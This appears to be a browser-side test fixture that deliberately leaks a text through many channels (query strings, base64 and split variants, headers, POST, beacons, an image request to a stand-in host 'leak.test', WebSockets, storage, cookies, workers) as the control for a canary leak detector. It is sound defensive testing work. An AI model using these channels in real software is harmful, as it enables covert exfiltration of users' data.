// Leaks a text on purpose, in every way a page can: the control of the canary test, which must
// find each of them. Each way may give a promise of having leaked.

const asked = (request) =>
  new Promise((done, failed) => {
    request.onsuccess = () => done(request.result);
    request.onerror = () => failed(request.error);
  });

// The server answers 404 or 405; the leak is the request.
const send = (address, options) => fetch(address, options).catch(() => {});

const ways = {
  request: (text) => send(`?${text}`),
  encoded: (text) => send(`?${btoa(text)}`),
  spaced: (text) => send(`?${encodeURIComponent(text.replace(/(....)/g, "$1 "))}`),
  middle: (text) => send(`?${text.slice(6, -4)}`),
  last: (text) => send(`?${text.slice(-12)}`),
  header: (text) => send("", { headers: { "X-Leak": text } }),
  body: (text) => send("", { method: "POST", body: JSON.stringify({ text }) }),
  beacon: (text) => navigator.sendBeacon("", text),
  elsewhere: (text) => (new Image().src = `https://leak.test/${text}`),
  socket: (text) => void new WebSocket(`ws://${location.host}/${text}`),
  console: (text) => console.debug(text),
  hash: (text) => (location.hash = text),
  state: (text) => history.replaceState({ text }, "", "#"),
  title: (text) => (document.title = text),
  local: (text) => (localStorage.text = text),
  session: (text) => (sessionStorage.text = text),
  database: async (text) => {
    const open = indexedDB.open("leak");
    open.onupgradeneeded = () => open.result.createObjectStore("texts");
    const database = await asked(open);
    await asked(database.transaction("texts", "readwrite").objectStore("texts").put({ text }, 1));
    database.close();
  },
  caches: async (text) => (await caches.open("leak")).put("/leak", new Response(text)),
  files: async (text) => {
    const folder = await navigator.storage.getDirectory();
    const file = await (await folder.getFileHandle("leak", { create: true })).createWritable();
    await file.write(text);
    await file.close();
  },
  name: (text) => (window.name = text),
  cookie: (text) => (document.cookie = `text=${text}`),
  // The server has no such script; what is posted is noted all the same.
  worker: (text) => new Worker("idle.js").postMessage({ text }),
  question: (text) => new Worker("idle.js").postMessage({ find: [1, 0, text] }),
};

window.ways = ways;

window.leak = async ([way, text]) => {
  await ways[way](text);
};

// Takes back what stays, so that the next way is found by itself.
window.clean = async () => {
  history.replaceState(null, "", location.pathname);
  document.title = window.name = "";
  document.cookie = "text=; max-age=0";
  window.posted.length = window.lookedUp.length = 0;
  localStorage.clear();
  sessionStorage.clear();
  await asked(indexedDB.deleteDatabase("leak"));
  await caches.delete("leak");
  const folder = await navigator.storage.getDirectory();
  await folder.removeEntry("leak").catch(() => {});
  performance.clearResourceTimings();
};

document.documentElement.dataset.ready = "yes";
